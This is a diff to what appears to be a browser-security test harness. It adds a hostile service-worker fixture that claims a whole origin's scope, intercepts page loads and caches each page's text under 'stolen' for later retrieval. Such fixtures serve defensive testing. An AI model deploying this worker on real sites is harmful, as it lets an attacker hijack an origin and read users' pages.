@@ -25,6 +25,37 @@ addEventListener("fetch", event => {
     })());
 });
 """
+#: Controls the whole origin, if its server allows that, and keeps the text of each page.
+_WIDE_WORKER = """
+addEventListener("install", () => skipWaiting());
+addEventListener("activate", event => event.waitUntil((async () => {
+    if (location.search.includes("preload")) await registration.navigationPreload.enable();
+    await clients.claim();
+})()));
+addEventListener("fetch", event => {
+    if (event.request.mode !== "navigate") return;
+    event.respondWith((async () => {
+        const answer = await event.preloadResponse || await fetch(event.request);
+        const text = await answer.clone().text();
+        await (await caches.open("stolen")).put(event.request.url, new Response(text));
+        return answer;
+    })());
+});
+"""
+#: Registers it, and waits until it controls this page.
+CONTROL_ORIGIN = """async how => {
+    const worker = `wide.js?Service-Worker-Allowed=/&how=${how}`;
+    await navigator.serviceWorker.register(worker, {scope: "/"});
+    await navigator.serviceWorker.ready;
+    if (!navigator.serviceWorker.controller)
+        await new Promise(done => { navigator.serviceWorker.oncontrollerchange = done; });
+    return "controlled";
+}"""
+#: What it kept of an address.
+STOLEN = """async url => {
+    const found = await (await caches.open("stolen")).match(url);
+    return found ? found.text() : "";
+}"""
 _ELEMENT = """async url => {
     const element = document.createElement("%s");
     element.%s = url;
@@ -123,6 +154,7 @@ async def start_hostile_server(hub: RealHub) -> None:
     (home / "page.html").write_text("<!doctype html><title>Eve</title><body>Look at this!")
     (home / "bare.html").write_text(f"<!doctype html><title>Bare</title><body>{SECRET}")
     (home / "worker.js").write_text(_WORKER)
+    (home / "wide.js").write_text(_WIDE_WORKER)
     if not await hub.servers(EVE):
         await hub.start_server(EVE)
 
